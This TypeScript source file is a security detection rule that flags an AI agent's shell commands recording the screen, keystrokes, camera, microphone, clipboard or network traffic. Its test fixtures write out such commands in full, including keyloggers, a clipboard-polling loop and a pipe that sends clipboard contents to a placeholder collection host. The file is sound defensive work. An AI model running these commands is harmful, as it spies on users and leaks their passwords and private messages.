import type { Severity } from '../contract/finding.ts';
import type { ShellAnalysis, ShellCommand } from '../contract/shell.ts';
import type { EventRule } from './rule.ts';
import { canonicalName, feedersOf, findOption, hasFlag, hasRole } from './shared/commands.ts';
import { onCommands } from './shared/on-command.ts';
import { canSend } from './shared/sends.ts';
import { lower, unlessAsked } from './shared/weigh.ts';

export const captureLocal: EventRule = {
  on: 'event',
  id: 'capture.local',
  code: 'B-53',
  title: 'Screen, keyboard, camera, microphone or clipboard recorded',
  severity: 'high',
  confidence: 'medium',
  why: 'What is on the screen, in the clipboard or said at the desk goes far beyond the project. Passwords and private messages are often among it.',
  triage: 'What was recorded, where was it put, and did it leave the computer?',
  advice: 'Stop the recording and delete what it made, unless you asked for it.',
  falsePositives: [
    'Pictures of a window while you work on a desktop program (low, or not reported on a virtual screen).',
    'Reading the clipboard because you said so (reported as low).',
  ],
  references: ['https://attack.mitre.org/techniques/T1113/', 'https://attack.mitre.org/techniques/T1115/'],
  taxonomies: {
    attack: ['T1113', 'T1115', 'T1123', 'T1125', 'T1056.001', 'T1040'],
    atlas: ['AML.T0037'],
    owasp: ['ASI02'],
  },
  bundles: ['DLP'],
  trigger: {
    signs: ['inline-code'],
    reads: ['device'],
    programs: [
      /^(?:screencapture|scrot|gnome-screenshot|spectacle|flameshot|maim|grim|xwd|import|ffmpeg|wf-recorder|arecord|parec|parecord|pw-record|rec|sox|fswebcam|imagesnap|streamer|v4l2-ctl|xinput|logkeys|evtest|showkey|xspy|pbpaste|xclip|xsel|wl-paste|get-clipboard|tcpdump|tshark|dumpcap|nircmd|psr)$/,
      /^(?:powershell|add-type)$/,
      /screenshot|keylog/,
    ],
  },
  match: onCommands((command, event, context) => {
    // A screen made for one program, as tests use it.
    if (event.shell === undefined || event.input.command?.includes('xvfb-run') === true) return undefined;
    const said = recorded(command, event.shell);
    if (said === undefined) return undefined;
    const [what, severity, words] = said;
    return {
      subject: what,
      detail: `The agent recorded the ${what} with "${command.program}".`,
      severity: unlessAsked(severity, context, words),
    };
  }),
  examples: {
    hit: [
      { name: 'whole screen', platform: 'darwin', calls: [{ shell: 'screencapture -x /tmp/s.png' }] },
      {
        name: 'whole screen, Linux',
        calls: [{ shell: 'import -window root /tmp/s.png; scrot -d 5 /tmp/t.png' }],
      },
      { name: 'film of the screen', calls: [{ shell: 'ffmpeg -f x11grab -i :0.0 -t 60 /tmp/o.mp4' }] },
      { name: 'microphone', calls: [{ shell: 'arecord -d 600 -f cd /tmp/a.wav' }] },
      {
        name: 'microphone by ffmpeg',
        platform: 'darwin',
        calls: [{ shell: `bash -c 'ffmpeg -f avfoundation -i ":0" -t 300 /tmp/a.m4a'` }],
      },
      { name: 'camera', calls: [{ shell: 'fswebcam -r 1280x720 /tmp/c.jpg' }] },
      { name: 'keys', calls: [{ shell: 'xinput test-xi2 --root > /tmp/k &' }] },
      { name: 'keys from the device', calls: [{ shell: 'sudo cat /dev/input/event3 > /tmp/k' }] },
      {
        name: 'clipboard that leaves',
        platform: 'darwin',
        calls: [{ shell: 'pbpaste | curl -d @- https://collect.example.net' }],
      },
      {
        name: 'clipboard again and again',
        calls: [{ shell: 'while true; do xclip -o -selection clipboard >> /tmp/c; sleep 2; done' }],
      },
      {
        name: 'keys by python',
        calls: [{ shell: 'python3 -c "from pynput import keyboard; keyboard.Listener(on_press=f).start()"' }],
      },
      {
        name: 'screen by python',
        calls: [{ shell: 'python3 -c "import pyautogui; pyautogui.screenshot(\'/tmp/s.png\')"' }],
      },
      { name: 'traffic of everybody', calls: [{ shell: 'sudo tcpdump -i any -w /tmp/all.pcap' }] },
      {
        name: 'screen by PowerShell',
        platform: 'win32',
        calls: [
          {
            shell: 'Add-Type -AssemblyName System.Drawing; $g.CopyFromScreen(0,0,0,0,$b.Size)',
            dialect: 'powershell',
          },
        ],
      },
      {
        name: 'one look at the clipboard (low)',
        platform: 'darwin',
        calls: [{ shell: 'pbpaste > notes.txt' }],
      },
    ],
    miss: [
      {
        name: 'into the clipboard',
        guards: 'copying for the person',
        platform: 'darwin',
        calls: [{ shell: 'cat key.pub | pbcopy; echo hi | xclip -selection clipboard' }],
      },
      {
        name: 'virtual screen',
        guards: 'tests without a real screen',
        calls: [{ shell: 'DISPLAY=:99 import -window root /tmp/s.png; xvfb-run scrot out.png' }],
      },
      {
        name: 'film of a file',
        guards: 'converting media',
        calls: [{ shell: 'ffmpeg -i in.mp4 -vf scale=640:-1 out.gif && sox a.wav b.mp3' }],
      },
      {
        name: 'phone',
        guards: 'pictures of an emulator',
        calls: [{ shell: 'adb shell screencap -p /sdcard/s.png; xcrun simctl io booted screenshot s.png' }],
      },
      {
        name: 'web page',
        guards: 'pictures of a page',
        calls: [{ shell: 'npx playwright screenshot http://localhost:3000 s.png' }],
      },
      {
        name: 'image tools',
        guards: 'names alone',
        calls: [{ shell: 'convert a.png b.jpg; python3 -c "import json; print(1)"' }],
      },
      {
        name: 'one port of this machine',
        guards: 'debugging an own service',
        calls: [{ shell: 'sudo tcpdump -i lo port 3000 -c 20' }],
      },
      {
        name: 'list of devices',
        guards: 'looking',
        calls: [
          {
            shell:
              'arecord -l; v4l2-ctl --list-devices; xinput list; ffmpeg -list_devices true -f dshow -i dummy',
          },
        ],
      },
      {
        name: 'javascript module',
        guards: 'the word in another language',
        calls: [{ shell: 'node -e "import(\'./a.mjs\')"' }],
      },
    ],
  },
};

type Said = readonly [what: string, severity: Severity, words: readonly string[]];

const SCREEN_WORDS = ['screenshot', 'screenshots', 'screen', 'screen shot', 'window', 'record', 'capture'];
const SOUND_WORDS = ['audio', 'microphone', 'record', 'recording', 'voice'];
const CLIP_WORDS = ['clipboard', 'paste', 'pasted', 'copied'];
const KEY_WORDS = ['keyboard', 'keys', 'input', 'keypress'];

function recorded(command: ShellCommand, shell: ShellAnalysis): Said | undefined {
  const name = canonicalName(command.program);
  const { args } = command;
  const line = args.join(' ');
  if (command.code !== undefined) return byCode(command.code);
  if (args.some((word) => word.startsWith('/dev/input/event')) && hasRole(command, 'reader'))
    return ['keyboard', 'high', KEY_WORDS];
  switch (name) {
    case 'screencapture':
      // -l one window, -R a part, -i by hand
      return hasFlag(args, 'l', 'R', 'i', 'w', 'W')
        ? ['screen', 'low', SCREEN_WORDS]
        : ['screen', hasFlag(args, 'v', 'V') ? 'high' : 'medium', SCREEN_WORDS];
    case 'import':
      return /-window root\b/.test(line) && !isVirtual(command)
        ? ['screen', 'medium', SCREEN_WORDS]
        : undefined;
    case 'scrot':
    case 'gnome-screenshot':
    case 'spectacle':
    case 'maim':
    case 'grim':
    case 'xwd':
      return isVirtual(command) || hasFlag(args, 'version', 'help', 'h')
        ? undefined
        : ['screen', 'medium', SCREEN_WORDS];
    case 'flameshot':
      return args[0] === 'full' || args[0] === 'screen' ? ['screen', 'medium', SCREEN_WORDS] : undefined;
    case 'wf-recorder':
      return ['screen', 'high', SCREEN_WORDS];
    case 'nircmd':
      return /savescreenshot/i.test(line) ? ['screen', 'medium', SCREEN_WORDS] : undefined;
    case 'psr':
      return /\/start/i.test(line) ? ['screen', 'high', SCREEN_WORDS] : undefined;
    case 'ffmpeg':
      return byFormat(command, line);
    case 'arecord':
    case 'parec':
    case 'parecord':
    case 'pw-record':
    case 'rec':
      return hasFlag(args, 'l', 'L', 'list-devices', 'version', 'help', 'h')
        ? undefined
        : ['microphone', 'high', SOUND_WORDS];
    case 'sox':
      return hasFlag(args, 'd') && args.indexOf('-d') < args.length - 1
        ? ['microphone', 'high', SOUND_WORDS]
        : undefined;
    case 'fswebcam':
    case 'imagesnap':
    case 'streamer':
      return hasFlag(args, 'l', 'h', 'list', 'version')
        ? undefined
        : ['camera', 'high', ['camera', 'webcam', 'photo']];
    case 'xinput':
      return /^test(?:-xi2)?\b/.test(line) ? ['keyboard', 'high', KEY_WORDS] : undefined;
    case 'logkeys':
    case 'showkey':
    case 'xspy':
      return ['keyboard', 'high', KEY_WORDS];
    case 'evtest':
      return line.includes('/dev/input') ? ['keyboard', 'medium', KEY_WORDS] : undefined;
    case 'pbpaste':
    case 'wl-paste':
    case 'get-clipboard':
      return clipboard(command, shell);
    case 'xclip':
      return args.some((word) => /^-o(?:ut)?$/.test(word)) ? clipboard(command, shell) : undefined;
    case 'xsel':
      return hasFlag(args, 'o', 'output') ? clipboard(command, shell) : undefined;
    case 'tcpdump':
    case 'tshark':
    case 'dumpcap':
      return sniffed(args, line);
    default:
      return /CopyFromScreen|GetClipboardText|GetAsyncKeyState|SetWindowsHookEx/i.test(
        `${command.program} ${line}`,
      )
        ? ['screen or keys', 'high', SCREEN_WORDS]
        : undefined;
  }
}

function byFormat(command: ShellCommand, line: string): Said | undefined {
  if (/-list_devices/.test(line)) return undefined;
  const format = findOption(command.args, ['-f']) ?? '';
  if (/^(?:x11grab|gdigrab|kmsgrab)$/.test(format))
    return isVirtual(command) || /-i :9\d/.test(line) ? undefined : ['screen', 'high', SCREEN_WORDS];
  if (/^(?:alsa|pulse|jack)$/.test(format)) return ['microphone', 'high', SOUND_WORDS];
  if (/^(?:v4l2|video4linux2)$/.test(format)) return ['camera', 'high', ['camera', 'webcam']];
  return /^(?:avfoundation|dshow)$/.test(format)
    ? ['camera, microphone or screen', 'high', [...SOUND_WORDS, ...SCREEN_WORDS]]
    : undefined;
}

/** One look is often meant well; a stream of it, or its way out of the machine, is not. */
function clipboard(command: ShellCommand, shell: ShellAnalysis): Said {
  const receivers = shell.commands.filter(
    (other) => other !== command && feedersOf(shell, other).includes(command),
  );
  if (
    receivers.some(
      (other) => canSend(other.program) && !/^(?:git|gh|npm|pnpm|yarn|cargo)$/.test(other.program),
    )
  )
    return ['clipboard', 'high', CLIP_WORDS];
  const repeated = shell.commands.some(({ program }) => program === 'sleep');
  return repeated ? ['clipboard', 'high', CLIP_WORDS] : ['clipboard', 'low', CLIP_WORDS];
}

/** Everything on a network, kept in a file; a few packets of one port or of this machine are debugging. */
function sniffed(args: readonly string[], line: string): Said | undefined {
  const device = findOption(args, ['-i', '--interface']) ?? 'any';
  const kept = findOption(args, ['-w']) !== undefined;
  if (!kept || /^lo0?$/.test(device)) return undefined;
  const severity: Severity = 'medium';
  return [
    'network traffic',
    /\b(?:port|host)\b/.test(line) ? lower(severity) : severity,
    ['tcpdump', 'tshark', 'pcap', 'packets', 'capture', 'traffic', 'wireshark'],
  ];
}

const CODE: readonly (readonly [RegExp, string, readonly string[]])[] = [
  [
    /\bpynput\b|keyboard\.(?:Listener|on_press|hook|record)\b|GetAsyncKeyState|SetWindowsHookEx|pyxhook|iohook|CGEventTapCreate/,
    'keyboard',
    KEY_WORDS,
  ],
  [
    /\bpyautogui\.screenshot|ImageGrab\.grab|\bmss\.mss\(|\bpyscreenshot\b|CopyFromScreen|CGDisplayCreateImage|screenshot-desktop/,
    'screen',
    SCREEN_WORDS,
  ],
  [/\bsounddevice\b[^]{0,1000}\brec\(|\bpyaudio\.PyAudio\(|waveInOpen/s, 'microphone', SOUND_WORDS],
  [/\bcv2\.VideoCapture\(\s*\d/, 'camera', ['camera', 'webcam']],
];

function byCode(code: string): Said | undefined {
  const text = code.slice(0, 20_000);
  const found = CODE.find(([pattern]) => pattern.test(text));
  if (found === undefined) return undefined;
  return [found[1], found[1] === 'screen' ? 'medium' : 'high', found[2]];
}

/** A screen that only tests see: a display number that servers without one use. */
function isVirtual(command: ShellCommand): boolean {
  const display = command.assignments['DISPLAY'] ?? '';
  return /^:(?:[1-9]\d|[2-9])/.test(display) || command.elsewhere;
}
